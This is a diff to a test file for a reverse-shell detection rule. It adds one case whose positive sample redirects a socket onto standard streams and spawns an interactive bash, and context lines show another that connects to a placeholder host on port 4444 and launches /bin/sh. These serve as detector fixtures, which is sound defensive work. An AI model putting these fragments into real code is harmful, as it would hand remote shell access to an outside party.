@@ -17,6 +17,11 @@ describeRuleCases('reverse-shell', [
     negative: py('import subprocess\nsubprocess.run(["ls"])'),
   },
   {
+    id: 'SG-RSHELL-003',
+    positive: py('fd = s.fileno()\nfor i in (0, 1, 2):\n    os.dup2(fd, i)\npty.spawn(["/bin/bash", "-i"])'),
+    negative: py('pty.spawn(["python3", "repl.py"])'),
+  },
+  {
     id: 'SG-RSHELL-004',
     positive: js('const c = net.connect(4444, "h.example.net", () => { spawn("/bin/sh", []) })'),
     negative: js('const c = net.connect(5432, "db")'),
